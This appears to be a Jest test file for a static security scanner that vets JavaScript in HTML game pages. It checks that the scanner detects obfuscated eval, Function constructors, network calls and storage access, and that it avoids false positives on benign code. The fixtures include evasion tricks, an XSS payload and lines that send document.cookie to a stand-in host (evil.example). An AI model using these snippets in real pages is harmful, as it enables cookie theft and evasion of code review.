// staticScan: rules see through aliases, computed keys, escapes, concatenation and
// constructor chains; local names that shadow globals are not globals; findings carry the
// document's line and column; verdict and score follow the findings.
import { describe, expect, it } from '@jest/globals';
import { securityScore, staticScan, verdictOf } from '../../../game/scan/index.ts';
import { browserCompatibility } from '../../../game/scan/compat.ts';
import type { Finding } from '../../../game/vocabulary.ts';

/** The code starts on line 4 of the document, column 1. */
const page = (js: string, head = ''): string =>
  `<!DOCTYPE html>\n<html><head>${head}</head><body><canvas></canvas>\n<script>\n${js}\n</script></body></html>`;
const rulesOf = (js: string): string[] => [...new Set(staticScan(page(js)).findings.map((f) => f.rule))].sort();
const serious = (findings: Finding[]): Finding[] => findings.filter((f) => f.severity !== 'info');

describe('evasions resolve to the real API', () => {
  const cases: [string, string][] = [
    ["const w = window; const e = w['ev' + 'al']; e('1')", 'dynamic-code.eval'],
    ["globalThis[['l','a','v','e'].reverse().join('')]('1')", 'dynamic-code.eval'],
    ["self[atob('ZXZhbA==')]('1')", 'dynamic-code.eval'],
    ["top[String.fromCharCode(101, 118, 97, 108)]('1')", 'dynamic-code.eval'],
    ["var s = 'ev'; s += 'al'; frames[s]('1')", 'dynamic-code.eval'],
    ['\\u0065val("1")', 'dynamic-code.eval'],
    ["window['\\x65\\x76\\x61\\x6c']('1')", 'dynamic-code.eval'],
    ['function g() { return this } g().eval("1")', 'dynamic-code.eval'],
    ['(function (w) { w.eval("1") })(window)', 'dynamic-code.eval'],
    ["const k = 'eval'; const f = (o) => o[k]; f(parent)('1')", 'dynamic-code.eval'],
    ["(function(){}).constructor('return 1')()", 'dynamic-code.function-constructor'],
    ["(() => 0)['constr' + 'uctor']('return 1')()", 'dynamic-code.function-constructor'],
    ["[].constructor.constructor('return 1')()", 'dynamic-code.function-constructor'],
    ['Object.getPrototypeOf(async function () {}).constructor("await 1")', 'dynamic-code.function-constructor'],
    ['new window.Function("a", "return a")', 'dynamic-code.function-constructor'],
    ["setTimeout('tick()', 10)", 'dynamic-code.string-timer'],
    ['const later = setInterval; later(`tick(${1})`, 10)', 'dynamic-code.string-timer'],
    ["setTimeout.call(window, 'tick()', 10)", 'dynamic-code.string-timer'],
    ["const { fetch: get } = window; get('/x')", 'network.fetch'],
    ["Reflect.get(self, 'fe' + 'tch')('/x')", 'network.fetch'],
    ["new (window['XMLHttp' + 'Request'])()", 'network.xhr'],
    ["navigator['send' + 'Beacon']('/b', 'x')", 'network.beacon'],
    ['new Image().src = "https://evil.example/?c=" + document.cookie', 'network.resource-url'],
    ["document['coo' + 'kie']", 'storage.cookie'],
    ['const { localStorage: ls } = globalThis; ls.clear()', 'storage.local'],
    ["top.location = 'https://evil.example/'", 'navigation.location'],
    ["document.location.replace('/x')", 'navigation.location'],
    ["const o = window.open; o('https://evil.example/')", 'navigation.popup'],
    ["document.createElement('scr' + 'ipt')", 'dom.script-element'],
    ["el.innerHTML = '<img src=x onerror=alert(1)>'", 'dom.script-injection'],
    ["el.setAttribute('on' + 'click', 'go()')", 'dynamic-code.handler-string'],
    ["navigator['geo' + 'location'].getCurrentPosition(f)", 'device.geolocation'],
    ["import('https://evil.example/m.js')", 'exec.dynamic-import'],
    ['new Worker("w.js")', 'exec.worker'],
    ['while (true) { x++ }', 'resource.busy-loop'],
    ['outer: for (;;) { for (;;) { break; } }', 'resource.busy-loop'],
    ['const a = new Float64Array(1024 * 1024 * 1024)', 'resource.huge-allocation'],
    ['with (window) { x = 1 }', 'obfuscation.with'],
    ['const k = String(Math.random()); window[k]()', 'obfuscation.computed-global'],
  ];
  it.each(cases)('%s → %s', (js, rule) => {
    expect(rulesOf(js)).toContain(rule);
  });

  it('decodes payloads that reach eval-like sinks and scans them as code', () => {
    const payload = Buffer.from(`fetch('https://evil.example/' + document.cookie); ${'var pad = 1; '.repeat(20)}`)
      .toString('base64');
    expect(rulesOf(`eval(atob('${payload}'))`)).toEqual(expect.arrayContaining([
      'dynamic-code.eval', 'network.fetch', 'storage.cookie', 'obfuscation.encoded-payload', 'obfuscation.encoded-code',
    ]));
    expect(rulesOf("setTimeout('fetch(\"/x\")', 1)"))
      .toEqual(expect.arrayContaining(['dynamic-code.string-timer', 'network.fetch']));
  });

  it('flags bidi controls anywhere and invisible characters in code, not in strings with emoji', () => {
    expect(rulesOf('/* \u202E } \u2066if (admin)\u2069 */ x = 1')).toContain('obfuscation.bidi');
    expect(rulesOf('const \u3164 = 1; x = \u3164')).toContain('obfuscation.invisible-char');
    expect(rulesOf("const team = '👩\u200D🚀'; // emoji with a zero-width joiner")).toEqual([]);
  });
});

describe('no false positives on ordinary game code', () => {
  const benign = [
    'let top = 10; const parent = { x: 1 }; top += parent.x;',
    'function fetch(level) { return level * 2 } fetch(3);',
    'const open = () => 1; open(); const location = { x: 0 }; location.x = 5;',
    'class Ship { #fuel = 1; open() { return this.#fuel ?? 0 } eval() { return 1 } } new Ship().open();',
    'const game = { start() {}, storage: [] }; game.start(); game.storage.push(1); ' +
      'const rect = el.getBoundingClientRect(); rect.top + rect.left;',
    "setTimeout(() => spawn(), 500); setInterval(tick, 16); requestAnimationFrame(loop);",
    "if (cb instanceof Function) cb(); const name = cb.constructor.name;",
    "for (;;) { if (done()) break; } function find() { while (true) { if (x++ > 9) return x; } }",
    "const label = String.fromCharCode(65 + i); const arrow = '\\u2190';",
    "el.textContent = 'Score: ' + score; el.classList.add('on'); el.style.color = 'red';",
    "const sprite = new Image(); sprite.src = 'data:image/png;base64,iVBORw0KGgo='; ctx.drawImage(sprite, 0, 0);",
    "window.addEventListener('keydown', onKey); document.getElementById('game').focus();",
    'const grid = new Array(64).fill(0); const buf = new Float32Array(800 * 600);',
  ];
  it.each(benign)('%s', (js) => {
    expect(serious(staticScan(page(js)).findings)).toEqual([]);
  });
});

describe('findings', () => {
  it('carry the document line and column of the offending code', () => {
    const { findings } = staticScan(page('let a = 1;\n  const w = window;\n  w.fetch("/x");'));
    expect(findings).toEqual([expect.objectContaining({
      rule: 'network.fetch', severity: 'block', line: 6, column: 3, source: 'w.fetch("/x");',
    })]);
    const handler = staticScan('<!DOCTYPE html>\n<body>\n<button onclick="go();\n  fetch(1)">x</button></body>')
      .findings;
    expect(handler.find((f) => f.rule === 'network.fetch')).toMatchObject({ line: 4, column: 3 });
  });

  it('cover markup and CSS', () => {
    const html = page('', '<script src="https://cdn.example.com/x.js"></script>' +
      '<style>b { background: url(//evil.example/p.png) }</style><meta http-equiv="refresh" content="0;url=/x">');
    expect(staticScan(html).findings.map((f) => f.rule).sort())
      .toEqual(['external.script', 'navigation.meta-refresh', 'network.css-url']);
    expect(staticScan(page('', '<script src="/play/vendor/phaser.min.js"></script>')).findings).toEqual([]);
  });

  it('block any script no parser can read', () => {
    expect(staticScan(page('function ( {')).findings)
      .toEqual([expect.objectContaining({ rule: 'parse.syntax-error', severity: 'block', line: 4 })]);
  });

  it('give a verdict and a score', () => {
    const block = staticScan(page('fetch("/x"); el.innerHTML = data;')).findings;
    expect(verdictOf(block)).toBe('block');
    expect(securityScore(block)).toBeLessThanOrEqual(40);
    const review = staticScan(page('el.innerHTML = data;')).findings;
    expect(verdictOf(review)).toBe('review');
    expect(securityScore(review)).toBeLessThanOrEqual(80);
    expect(verdictOf([])).toBe('pass');
    expect(securityScore([])).toBe(100);
  });

  it('narrow browser compatibility from the APIs used', () => {
    expect(browserCompatibility(['requestAnimationFrame'])).toEqual(['chrome', 'firefox', 'safari', 'edge']);
    expect(browserCompatibility(['navigator.usb'])).toEqual(['chrome', 'edge']);
    expect(browserCompatibility(['requestIdleCallback'])).toEqual(['chrome', 'firefox', 'edge']);
  });
});
